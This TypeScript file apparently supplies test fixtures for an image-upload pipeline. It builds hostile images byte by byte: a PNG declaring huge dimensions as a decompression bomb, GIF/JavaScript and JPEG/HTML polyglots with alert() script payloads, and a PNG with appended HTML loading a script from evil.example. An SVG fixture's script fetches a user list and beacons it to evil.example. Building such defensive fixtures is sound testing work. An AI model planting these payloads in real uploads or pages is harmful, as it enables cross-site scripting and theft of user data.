import zlib from 'node:zlib';
import sharp from 'sharp';

// Files that pretend to be pictures, built byte by byte (nothing is read from anywhere).

const CRC_TABLE = (() => {
  const table = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    table[n] = c >>> 0;
  }
  return table;
})();

export function crc32(data: Buffer): number {
  let c = 0xffffffff;
  for (const byte of data) c = CRC_TABLE[(c ^ byte) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/**
 * A PNG of a few dozen bytes whose header (IHDR, with a correct CRC) declares `width` x `height`
 * RGB pixels: a decompression bomb's calling card.
 */
export function pngDeclaring(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.writeUInt8(8, 8); // bit depth
  ihdr.writeUInt8(2, 9); // colour type: RGB
  ihdr.writeUInt8(0, 10); // compression
  ihdr.writeUInt8(0, 11); // filter
  ihdr.writeUInt8(0, 12); // interlace
  // One filtered scanline's worth of zeros, compressed: the rest is left to the decoder's imagination.
  const idat = zlib.deflateSync(Buffer.alloc(1 + Math.min(width, 1024) * 3));
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * A GIF that is also JavaScript: the logical screen width is the two bytes `/*`, so the whole
 * picture is a comment to a JS engine, and `*\/=1;alert(document.domain);` follows the trailer.
 */
export function gifJsPolyglot(): Buffer {
  return Buffer.concat([
    Buffer.from('GIF89a', 'latin1'),
    Buffer.from([0x2f, 0x2a]), // width  = "/*"
    Buffer.from([0x0a, 0x00]), // height = 10
    Buffer.from([0x80, 0x00, 0x00]), // global colour table of 2 entries
    Buffer.from([0x00, 0x00, 0x00, 0xff, 0xff, 0xff]),
    Buffer.from([0x2c, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]), // one 1x1 image at 0,0
    Buffer.from([0x02, 0x02, 0x44, 0x01, 0x00]), // LZW data
    Buffer.from([0x3b]), // trailer
    Buffer.from('*/=1;alert(document.domain);//', 'latin1'),
  ]);
}

/** A real JPEG carrying an HTML page with a script in a comment segment (COM, right after SOI). */
export async function jpegHtmlPolyglot(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 32, height: 24, channels: 3, background: '#b08d57' } })
    .jpeg()
    .toBuffer();
  const html = Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>', 'latin1');
  const segmentLength = Buffer.alloc(2);
  segmentLength.writeUInt16BE(html.length + 2);
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), segmentLength, html, jpeg.subarray(2)]);
}

/** A real PNG with an HTML page appended after its IEND chunk. */
export async function pngWithHtmlAppended(): Promise<Buffer> {
  const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#ffffff' } })
    .png()
    .toBuffer();
  return Buffer.concat([
    png,
    Buffer.from('<!doctype html><script src="https://evil.example/x.js"></script>', 'latin1'),
  ]);
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><rect width="64" ' +
    'height="64" fill="gold"/>' +
    '<script type="text/javascript">fetch("/api/getAllUser").then(r => r.text()).then(t => ' +
    'navigator.sendBeacon("https://evil.example", t))</script></svg>',
);

export const TEXT_PRETENDING_TO_BE_JPEG = Buffer.from(
  'This is not a photograph. It is a text file with a .jpg name.\n'.repeat(20),
);

/** The first part of a real image: its header is intact, its pixel data cut short. */
export async function truncatedPng(): Promise<Buffer> {
  const png = await sharp({
    create: {
      width: 400,
      height: 300,
      channels: 3,
      background: '#000000',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .png()
    .toBuffer();
  return png.subarray(0, Math.floor(png.length * 0.6));
}

export async function truncatedJpeg(): Promise<Buffer> {
  const jpeg = await sharp({
    create: {
      width: 400,
      height: 300,
      channels: 3,
      background: '#000000',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .jpeg()
    .toBuffer();
  return jpeg.subarray(0, Math.floor(jpeg.length * 0.5));
}
